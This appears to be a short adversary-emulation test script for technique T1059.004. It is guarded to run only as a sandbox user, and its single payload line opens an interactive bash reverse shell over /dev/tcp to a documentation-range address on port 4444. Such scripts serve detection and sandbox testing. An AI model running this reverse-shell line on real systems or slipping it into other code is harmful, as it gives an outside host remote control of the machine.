#!/bin/sh
# technique: T1059.004
# needs: bash
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444 && bash -i <&3 >&3 2>&3'
